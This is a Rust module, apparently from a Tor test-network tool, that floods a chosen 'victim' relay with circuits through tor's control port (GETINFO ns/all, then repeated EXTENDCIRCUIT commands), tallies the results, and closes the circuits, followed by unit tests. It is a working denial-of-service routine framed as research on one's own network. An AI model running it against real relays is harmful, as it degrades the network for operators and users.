//! Circuits through one relay, as many as wanted, made by a tor over its control port: an attack on relays of one's own network
//! (`docs/attacks.md`).

use crate::clock::{self, Time};
use crate::config::Peer;
use crate::control::{DATA, Event};
use crate::control_link::ControlLink;
use crate::output::{Line, Output, Totals};
use crate::random::Random;
use crate::signals;
use data_encoding::{BASE64_NOPAD, HEXUPPER};
use mio::{Events, Poll, Token};
use std::collections::BTreeSet;
use std::fmt::Write;
use std::io;
use std::time::Duration;

const SIGNALS: Token = Token(0);
const CONTROL: Token = Token(1);

/// The pause before tor is asked again which relays there are, while it does not know the victim.
const AGAIN: Duration = Duration::from_secs(1);

/// What is wanted.
pub struct Flood {
    pub control: Peer,
    pub password: Option<String>,
    /// Nickname, or fingerprint with `$` before it.
    pub victim: String,
    /// Circuits that begin each time.
    pub count: u64,
    pub every: Duration,
    /// After the process's start.
    pub start: Duration,
    pub stop: Duration,
    pub seed: u64,
}

/// Relays as `$FINGERPRINT`: the victim, and others to both sides of it.
#[derive(Debug, PartialEq, Eq)]
struct Relays {
    victim: String,
    others: Vec<String>,
}

struct Flooder {
    flood: Flood,
    random: Random,
    began: Time,
    next: Time,
    /// Lines of the answer to which relays there are, as they come.
    listed: Vec<String>,
    relays: Option<Relays>,
    /// Circuits that tor has taken on, by its numbers, until they fail or are closed.
    open: BTreeSet<String>,
    begun: u64,
    refused: u64,
    built: u64,
    failed: u64,
}

/// Floods until it is time to stop, then closes all circuits. The error says why nothing could be done.
pub fn run(flood: Flood, output: &mut Output) -> io::Result<()> {
    let began = clock::now();
    let mut poll = Poll::new()?;
    let _signals = signals::register(poll.registry(), SIGNALS)?;
    output.line(&Line::Start {
        version: env!("CARGO_PKG_VERSION"),
        behaviours: None,
        seed: Some(flood.seed),
        listen: None,
        control: Some(flood.control.to_string()),
        unix: clock::unix(),
    });
    let mut link = ControlLink::new(flood.control.clone(), flood.password.clone(), "CIRC".into(), CONTROL);
    let mut flooder = Flooder::new(flood, began);
    let mut again = link.connect(poll.registry());
    let (mut events, mut scratch) = (Events::with_capacity(8), vec![0; 16 << 10]);
    let mut is_over = false;
    loop {
        let now = clock::now();
        if output.is_closed() || (again.is_some() && (link.was_ready || is_over)) {
            break;
        }
        if now >= flooder.end() && !std::mem::replace(&mut is_over, true) {
            link.send(&flooder.close_all());
        }
        if is_over && (flooder.open.is_empty() || now >= flooder.end() + Duration::from_secs(10)) {
            break;
        }
        if again.is_some_and(|at| at <= now) {
            again = link.connect(poll.registry());
            continue;
        }
        if link.was_ready && !is_over {
            link.send(&flooder.due(now, output));
        }
        let mut happened = Vec::new();
        again = link.drive(&mut scratch, &mut happened).or(again);
        happened.iter().for_each(|event| flooder.take(event));
        let next = if link.was_ready && !is_over { Some(flooder.next) } else { None };
        let wait = again.into_iter().chain(next).chain([flooder.end() + Duration::from_secs(10 * u64::from(is_over))]);
        match poll.poll(&mut events, wait.min().map(|at| at - clock::now())) {
            Err(error) if error.kind() == io::ErrorKind::Interrupted => {}
            result => result?,
        }
        if events.iter().any(|event| event.token() == SIGNALS) {
            break;
        }
    }
    flooder.tell(output);
    output.end(Totals { circuits: Some(flooder.built), ..Default::default() });
    match link.trouble {
        Some(trouble) if !link.was_ready => Err(io::Error::other(trouble)),
        _ if flooder.relays.is_none() => {
            Err(io::Error::other(format!("tor knows no relay {} and two others", flooder.flood.victim)))
        }
        _ => Ok(()),
    }
}

impl Flooder {
    fn new(flood: Flood, began: Time) -> Flooder {
        Flooder {
            random: Random::derive(flood.seed, &[0]),
            next: began + flood.start,
            began,
            listed: Vec::new(),
            relays: None,
            open: BTreeSet::new(),
            begun: 0,
            refused: 0,
            built: 0,
            failed: 0,
            flood,
        }
    }

    fn end(&self) -> Time {
        self.began + self.flood.stop
    }

    /// What is to be said to tor now.
    fn due(&mut self, now: Time, output: &mut Output) -> String {
        if now < self.next {
            return String::new();
        }
        let Some(relays) = &self.relays else {
            self.next = now + AGAIN;
            self.listed.clear();
            return "GETINFO ns/all\r\n".to_owned();
        };
        self.next = (self.next + self.flood.every).max(now);
        let mut said = String::new();
        for _ in 0..self.flood.count {
            let (before, behind) = two_of(relays.others.len() as u64, &mut self.random);
            let (before, behind) = (&relays.others[before], &relays.others[behind]);
            let _ = write!(said, "EXTENDCIRCUIT 0 {before},{},{behind}\r\n", relays.victim);
        }
        self.begun += self.flood.count;
        self.tell(output);
        said
    }

    /// What tor says.
    fn take(&mut self, event: &Event) {
        let mut words = event.text.split(' ');
        match (event.name.as_str(), words.next(), words.next()) {
            (DATA, ..) => self.listed.push(event.text.clone()),
            ("250", Some("EXTENDED"), Some(number)) => drop(self.open.insert(number.to_owned())),
            ("250", ..) if self.relays.is_none() => self.relays = read_relays(&self.listed, &self.flood.victim),
            ("CIRC", Some(number), Some("BUILT")) if self.open.contains(number) => self.built += 1,
            ("CIRC", Some(number), Some("FAILED" | "CLOSED")) => self.failed += u64::from(self.open.remove(number)),
            (status, ..) if status.starts_with(['4', '5']) => self.refused += 1,
            _ => {}
        }
    }

    fn close_all(&self) -> String {
        self.open.iter().fold(String::new(), |said, number| said + "CLOSECIRCUIT " + number + "\r\n")
    }

    fn tell(&self, output: &mut Output) {
        let Flooder { begun, refused, built, failed, .. } = *self;
        output.line(&Line::Circuits { at: clock::unix(), begun, refused, built, failed });
    }
}

/// Two different numbers below `end`, which is 2 at least.
fn two_of(end: u64, random: &mut Random) -> (usize, usize) {
    let one = random.below(end);
    let other = (one + 1 + random.below(end - 1)) % end;
    (one as usize, other as usize)
}

/// Reads `r NICKNAME IDENTITY ...` and `s FLAG ...` lines (dir-spec, "Router status entries"); nothing if the victim and two others that run are
/// not among them.
fn read_relays(lines: &[String], victim: &str) -> Option<Relays> {
    let (mut found, mut others, mut last) = (None, Vec::new(), None);
    for line in lines {
        let words: Vec<&str> = line.split(' ').collect();
        match words[..] {
            ["r", nickname, identity, ..] => {
                let bytes = BASE64_NOPAD.decode(identity.as_bytes()).ok()?;
                last = Some((nickname == victim, format!("${}", HEXUPPER.encode(&bytes))));
            }
            ["s", ref flags @ ..] if flags.contains(&"Running") => match last.take() {
                Some((is_named, fingerprint)) if is_named || fingerprint == victim => found = Some(fingerprint),
                Some((_, fingerprint)) => others.push(fingerprint),
                None => {}
            },
            _ => {}
        }
    }
    found.filter(|_| others.len() >= 2).map(|victim| Relays { victim, others })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn flooder() -> Flooder {
        let control = Peer { host: "127.0.0.1".into(), port: 9051 };
        let second = Duration::from_secs(1);
        let flood = Flood {
            control,
            password: None,
            victim: "victim".into(),
            count: 3,
            every: 6 * second,
            start: second,
            stop: 20 * second,
            seed: 1,
        };
        Flooder::new(flood, clock::now())
    }

    fn said(flooder: &mut Flooder, name: &str, text: &str) {
        flooder.take(&Event { name: name.into(), text: text.into() });
    }

    fn know_relays(flooder: &mut Flooder) {
        for (name, byte, flags) in
            [("one", 1, "Fast Running"), ("victim", 2, "Running"), ("gone", 3, "Fast"), ("two", 4, "Running Valid")]
        {
            said(flooder, DATA, &format!("r {name} {} 2000-01-01 00:00:00", BASE64_NOPAD.encode(&[byte; 20])));
            said(flooder, DATA, &format!("s {flags}"));
        }
        said(flooder, "250", "OK");
    }

    #[test]
    fn circuits_lead_through_the_victim_between_others_that_run() {
        let mut flooder = flooder();
        let (mut output, begin) = (Output::stdout(), flooder.next);
        assert_eq!(flooder.due(begin - Duration::from_millis(1), &mut output), "");
        assert_eq!(flooder.due(begin, &mut output), "GETINFO ns/all\r\n");
        know_relays(&mut flooder);
        let asked = flooder.due(begin + AGAIN, &mut output);
        let named = |byte: &str| format!("${}", byte.repeat(20));
        let paths = [("01", "04"), ("04", "01")]
            .map(|(before, behind)| format!("EXTENDCIRCUIT 0 {},{},{}", named(before), named("02"), named(behind)));
        assert_eq!(asked.lines().count(), 3);
        assert!(asked.lines().all(|line| paths.iter().any(|path| path == line)), "{asked}");
        assert_eq!(flooder.due(begin + AGAIN, &mut output), "", "the next ones come later");
        assert!(flooder.due(begin + AGAIN + Duration::from_secs(6), &mut output).starts_with("EXTENDCIRCUIT"));
    }

    #[test]
    fn circuits_are_counted_and_closed() {
        let mut flooder = flooder();
        know_relays(&mut flooder);
        for (name, text) in [
            ("250", "EXTENDED 7"),
            ("250", "EXTENDED 8"),
            ("552", "No such router"),
            ("CIRC", "7 BUILT $AB PURPOSE=GENERAL"),
            ("CIRC", "5 BUILT $AB PURPOSE=GENERAL"),
            ("CIRC", "8 FAILED $AB REASON=TIMEOUT"),
        ] {
            said(&mut flooder, name, text);
        }
        assert_eq!((flooder.built, flooder.failed, flooder.refused), (1, 1, 1));
        assert_eq!(flooder.close_all(), "CLOSECIRCUIT 7\r\n");
    }

    #[test]
    fn a_network_without_the_victim_is_none() {
        let mut flooder = flooder();
        flooder.flood.victim = "nobody".into();
        know_relays(&mut flooder);
        assert_eq!(flooder.relays, None);
    }
}
